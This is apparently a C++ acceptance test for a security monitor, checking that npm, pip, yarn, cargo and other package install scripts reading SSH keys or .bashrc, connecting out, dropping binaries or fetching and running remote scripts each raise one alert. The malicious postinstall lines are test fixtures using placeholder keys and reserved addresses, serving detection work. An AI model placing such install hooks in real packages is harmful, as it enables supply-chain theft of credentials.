// DE15: what a package's script does beyond building its package is one alert with the package's
// name and its manager; compiling, asking the registry and a project's own programs are none. The
// managers are stand-ins under the paths of the real ones, which start scripts as those do; where
// the machine has a real npm, that installs a local package as well.
#include <unistd.h>

#include "tests/acceptance/egress_test.h"

namespace picket::test {
namespace {

using ::testing::AllOf;
using ::testing::HasSubstr;
using ::testing::IsEmpty;

// Runs the postinstall of each package below a shell in its folder; `npm run` that of the project.
constexpr const char* kNpm = R"sh(#!/usr/bin/bash
if [ "$1" = run ]; then sh -c "$2"; exit 0; fi
for script in node_modules/*/postinstall node_modules/@*/*/postinstall; do
  [ -f "$script" ] || continue
  (cd "$(dirname "$script")" && exec sh -c "$(cat postinstall)")
done
exit 0
)sh";

// Builds a source folder by its backend in a process of its own.
constexpr const char* kPip = R"sh(#!/usr/bin/bash
(cd "$2" && exec /usr/bin/bash /opt/py/pip/_vendor/pyproject_hooks/_in_process/_in_process.py build_wheel /tmp/w)
exit 0
)sh";

class DE15 : public EgressTest {
 protected:
  void SetUp() override {
    EgressTest::SetUp();
    if (IsSkipped() || HasFatalFailure()) return;
    deploy();
    if (HasFatalFailure()) return;
    container_ = make_container({.id = "de15", .binds = {"/usr", "/lib", "/lib64"}});
    ASSERT_TRUE(container_);
    add_address(*container_, "203.0.113.80");
    add_address(*container_, "198.51.100.7");
    run(*container_, {"dns", "serve", "203.0.113.80"});
    shell(
        "mkdir -p /src/app/node_modules /root/.ssh /root/.cache /opt/node/bin "
        "/opt/py/bin /opt/py/pip/_vendor/pyproject_hooks/_in_process && "
        "echo of-a-test >/root/.ssh/id_ed25519 && echo >/root/.bashrc");
    write("/opt/node/bin/npm", kNpm);
    write("/opt/py/bin/pip", kPip);
    write("/opt/py/pip/_vendor/pyproject_hooks/_in_process/_in_process.py", ". ./setup.py\n");
    shell("chmod +x /opt/node/bin/npm /opt/py/bin/pip");
  }

  void shell(const std::string& script) {
    run(*container_, {"/usr/bin/bash", "-c", "export PATH=$PATH:/usr/bin; " + script});
  }
  void write(const std::string& path, const std::string& text) {
    shell(fmt::format("cat >{} <<'END'\n{}END\n", path, text));
  }
  void add_package(const std::string& name, const std::string& script) {
    shell("mkdir -p /src/app/node_modules/" + name);
    write("/src/app/node_modules/" + name + "/postinstall", script + "\n");
  }
  void npm(const std::string& arguments) { shell("cd /src/app && /opt/node/bin/npm " + arguments); }
  // One each: no other rule tells the same without the package.
  std::vector<Alert> told() {
    const auto all = distinct(alerts_so_far(*container_));
    for (const char* rule : {"unlisted_registry", "fetched_program", "foreign_program"})
      EXPECT_THAT(by_rule(all, rule), IsEmpty());
    return by_rule(all, "package_script");
  }
  static std::string output(const Alert& alert) { return alert["output"]; }

  std::unique_ptr<Container> container_;
};

TEST_F(DE15, EachPackageIsOneAlertWithItsNameAndManager) {
  add_package("a-reads", "cat /root/.ssh/id_ed25519 >/dev/null");
  add_package("b-writes", "echo x >>/root/.bashrc");
  add_package("c-connects", "contact tcp 198.51.100.7 8443");
  shell("base64 /opt/picket-test/contact >/src/payload");
  add_package("d-drops", "base64 -d /src/payload >x && chmod +x x && ./x shell true");
  add_package("e-all",
              "cat /root/.ssh/id_ed25519 >/dev/null; contact tcp 198.51.100.7 8443; "
              "echo x >>/root/.bashrc; cat /root/.ssh/id_ed25519 >/dev/null");
  // From a registry, so that only running it tells.
  shell("mkdir /src/www && echo exit >/src/www/x.sh && httpd -p 203.0.113.80:8099 -h /src/www");
  run(*container_, {"dns", "ask", "udp", "registry.npmjs.org"});
  add_package("f-fetches", "wget -q -O x.sh http://203.0.113.80:8099/x.sh && /usr/bin/bash x.sh");
  npm("install");
  const auto alerts = told();
  ASSERT_EQ(alerts.size(), 6u) << Alert(alerts).dump(1);
  const std::vector<std::pair<std::string, std::string>> expected = {
      {"a-reads", "file /root/.ssh/id_ed25519"},
      {"b-writes", "file /root/.bashrc"},
      {"c-connects", "peer 198.51.100.7 port 8443"},
      {"d-drops", "program /src/app/node_modules/d-drops/x"},
      {"e-all", "file /root/.ssh/id_ed25519"},
      {"f-fetches", "by bash x.sh"}};
  for (size_t i = 0; i < expected.size(); ++i) {
    EXPECT_THAT(output(alerts[i]),
                AllOf(HasSubstr("Script of the npm package " + expected[i].first + ":"),
                      HasSubstr(expected[i].second)));
    expect_identity(alerts[i], *container_);
  }
}

TEST_F(DE15, ADaemonWithoutAnEnvironmentUnderAnotherNameIsStillThePackages) {
  add_package("@corp/hidden",
              "cp /usr/bin/head /tmp/notes; cd /; (env -i /usr/bin/setsid /usr/bin/bash -c "
              "'/tmp/notes -c 4 root/.cache/../.ssh/id_ed25519; true' >/dev/null 2>&1 &)");
  npm("ci");
  const auto alert = deployment().alerts().wait_for("the daemon", [&](const Alert& alert) {
    return of(*container_, alert) && alert["rule"] == "package_script";
  });
  ASSERT_TRUE(alert.ok()) << alert.status();
  EXPECT_THAT(output(*alert), AllOf(HasSubstr("npm package @corp/hidden:"), HasSubstr("by notes"),
                                    HasSubstr("project /src/app/")));
}

TEST_F(DE15, AHardLinkAndASourceFolderOfPip) {
  shell("mkdir -p /src/pad");
  write("/src/pad/setup.py", "ln /root/.bashrc ./a && echo x >>a\n");
  shell("cd /src && /opt/py/bin/pip install ./pad");
  const auto alerts = told();
  ASSERT_EQ(alerts.size(), 1u) << Alert(alerts).dump(1);
  EXPECT_THAT(output(alerts[0]), HasSubstr("Script of the pip package pad: "));
}

// Each starts its package's script as the real one does: what is run, where, and by whom.
TEST_F(DE15, EveryManagerIsNamedWithItsPackage) {
  struct Case {
    std::string manager, command, folder, package, program = "/usr/bin/cat";
  };
  const std::string script =
      "/src/app/target/debug/build/pad-r-0123456789abcdef/build-script-build";
  const std::vector<Case> cases = {
      {"yarn", "/opt/bin/yarn install", "/src/app/node_modules/pad-y", "pad-y"},
      {"pnpm", "/opt/bin/pnpm add x", "/src/app/node_modules/.pnpm/pad-p@1/node_modules/pad-p",
       "pad-p"},
      {"gem", "/opt/bin/gem install x", "/var/gems/3.1.0/gems/pad-g-1.2.0/ext/pad", "pad-g"},
      {"composer", "/opt/bin/composer install", "/src/app/vendor/corp/pad-c", "corp/pad-c"},
      {"cargo", "/opt/rust/bin/cargo /opt/manager build", "/src/app", "pad-r", script},
      {"go", "/opt/go/bin/go /opt/manager generate", "/src/app/gen", "gen"}};
  shell("mkdir -p /opt/bin /opt/rust/bin /opt/go/bin " + script.substr(0, script.rfind('/')));
  write("/opt/manager", "#!/usr/bin/bash\n(cd $FOLDER && exec $RUN)\nexit 0\n");
  shell(
      "chmod +x /opt/manager; for name in yarn pnpm gem composer; do cp /opt/manager "
      "/opt/bin/$name; "
      "done; cp /usr/bin/bash /opt/rust/bin/cargo; cp /usr/bin/bash /opt/go/bin/go; cp "
      "/usr/bin/cat " +
      script);
  for (const Case& one : cases)
    shell(
        fmt::format("mkdir -p {0} && cd /src/app && FOLDER={0} RUN='{1} /root/.ssh/id_ed25519' {2} "
                    ">/dev/null",
                    one.folder, one.program, one.command));
  const auto alerts = told();
  ASSERT_EQ(alerts.size(), cases.size()) << Alert(alerts).dump(1);
  for (size_t i = 0; i < cases.size(); ++i)
    EXPECT_THAT(
        output(alerts[i]),
        HasSubstr(fmt::format("Script of the {} package {}:", cases[i].manager, cases[i].package)));
}

TEST_F(DE15, BuildingAndAProjectsOwnProgramsAreSilent) {
  add_package("native",
              "echo 'int main() { return 0; }' >a.c && gcc -o a a.c && ./a; mv a ../built; "
              "dns ask udp registry.npmjs.org; contact tcp 203.0.113.80 443; "
              "mkdir -p /root/.cache/native && cp a.c /root/.cache/native/a.c; "
              "cat /root/.bashrc >/dev/null; echo done >/dev/null");
  npm("install");
  npm("run 'cat /root/.ssh/id_ed25519 >/dev/null; contact tcp 198.51.100.7 22; echo "
      ">>/root/.bashrc'");
  shell(
      "cd /src/app/node_modules/native && cat /root/.ssh/id_ed25519 >/dev/null; "
      "contact tcp 198.51.100.7 22; true");
  EXPECT_THAT(told(), IsEmpty());
  // The same package, once it does more.
  add_package("native", "cat /root/.ssh/id_ed25519 >/dev/null");
  npm("install");
  EXPECT_EQ(told().size(), 1u);
}

TEST_F(DE15, OfARealNpmToo) {
  if (access("/usr/bin/npm", X_OK) != 0 || access("/usr/bin/node", X_OK) != 0)
    return;  // the stand-in above shows the same
  shell("mkdir -p /src/pad");
  write("/src/pad/package.json",
        R"({"name": "left-padder", "version": "1.0.0",
            "scripts": {"postinstall": "node -e \"require('fs').readFileSync('/root/.ssh/id_ed25519')\""}}
)");
  write("/src/app/package.json", "{\"name\": \"app\", \"version\": \"1.0.0\"}\n");
  shell(
      "cd /src/app && npm pack --silent --offline ../pad && "
      "npm install --silent --offline --no-audit --no-fund ./left-padder-1.0.0.tgz");
  const auto alerts = told();
  ASSERT_EQ(alerts.size(), 1u) << Alert(alerts).dump(1);
  EXPECT_THAT(output(alerts[0]),
              AllOf(HasSubstr("Script of the npm package left-padder: "),
                    HasSubstr("file /root/.ssh/id_ed25519"), HasSubstr("project /src/app/")));
}

}  // namespace
}  // namespace picket::test
